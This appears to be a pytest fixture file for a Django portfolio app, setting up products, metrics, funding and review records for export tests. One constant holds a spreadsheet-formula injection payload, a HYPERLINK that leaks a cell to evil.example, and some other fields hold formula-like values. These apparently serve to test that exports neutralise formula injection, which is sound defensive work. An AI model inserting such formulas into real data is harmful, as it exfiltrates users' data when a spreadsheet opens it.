import datetime as dt
from dataclasses import dataclass

import pytest
from django.test import Client
from django.utils import timezone

from analytics.compute import run_snapshot
from analytics.models import SplitSignal
from backlog.models import ItemStatus
from funding.models import FundingMode
from funding.services import allocation_set, current_fiscal_year
from metrics.models import Reading
from reviews import services as reviews
from tests.backlog.factories import BacklogItemFactory
from tests.metrics.factories import MetricFactory
from tests.products.factories import ProductFactory
from tests.world import small_portfolio

# What readings' `source` accepts today, and what a spreadsheet would run as a formula.
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def client_as(db):
    """A test client logged in as `user` (None: anonymous)."""

    def make(user) -> Client:
        client = Client()
        if user is not None:
            client.force_login(user)
        return client

    return make


@dataclass
class World:
    ana: object
    bo: object
    payroll: object
    intranet: object
    hr: object  # a cluster owned by Bo: badges and leave
    badges: object
    leave: object
    availability: object  # payroll's metric with readings
    cycle: object


@pytest.fixture
def world(db, leader) -> World:
    """A little of everything each list shows, with rows a filter keeps and rows it drops."""
    base = small_portfolio(purpose="Exports")
    ana, bo, cy, hr = base.ana, base.bo, base.cy, base.hr
    payroll, intranet, badges, leave = base.payroll, base.intranet, base.badges, base.leave
    ProductFactory(name="Old wiki", slug="old-wiki", owner=cy)  # orphaned: a candidate

    BacklogItemFactory(product=badges, title="Badge printer")
    BacklogItemFactory(product=leave, title="Leave report")
    BacklogItemFactory(product=leave, title="Leave audit", status=ItemStatus.DONE)

    now = timezone.now()
    availability = MetricFactory(
        product=payroll, key="availability", last_value=99.95, last_read_at=now
    )
    latency = MetricFactory(product=payroll, key="latency", last_value=90.0, last_read_at=now)
    Reading.objects.create(metric=latency, taken_at=now, value=90.0, source="grafana")
    MetricFactory(product=intranet, key="uptime")
    for i, (value, source) in enumerate([(99.9, "grafana"), (-5.5, "grafana"), (99.1, HYPERLINK)]):
        Reading.objects.create(
            metric=availability,
            taken_at=now - dt.timedelta(hours=i + 1),
            value=value,
            source=source,
        )

    year = current_fiscal_year()
    allocation_set(
        actor=leader,
        unit=payroll.unit,
        fiscal_year=year,
        operations_amount="500.00",
        improvement_amount="250.50",
        mode=FundingMode.REACTIVE,
    )
    allocation_set(
        actor=leader,
        unit=hr.unit,
        fiscal_year=year,
        operations_amount="900.00",
        improvement_amount="1500.00",
    )
    allocation_set(
        actor=leader,
        unit=hr.unit,
        fiscal_year=year - 1,
        operations_amount="800.00",
        improvement_amount="0.00",
        mode=FundingMode.REACTIVE,
    )

    cycle = reviews.cycle_schedule(actor=leader, year=2030, quarter=1).cycle
    first, second, *_ = cycle.reviews.order_by("id")
    reviews.decision_record(actor=leader, review=first, kind="invest", rationale="=1+1 grows")
    reviews.decision_record(actor=leader, review=second, kind="retire", rationale="Old")
    done = reviews.action_item_create(actor=leader, review=first, title="Plan the move")
    reviews.action_item_set_done(actor=leader, item=done, done=True)
    reviews.action_item_create(actor=leader, review=second, title="-Tell the users")

    run_snapshot()
    for product, kind in [(badges, "strategic"), (leave, "crowding")]:
        SplitSignal.objects.create(cluster=hr, kind=kind, product=product, opened_at=now)
    return World(ana, bo, payroll, intranet, hr, badges, leave, availability, cycle)
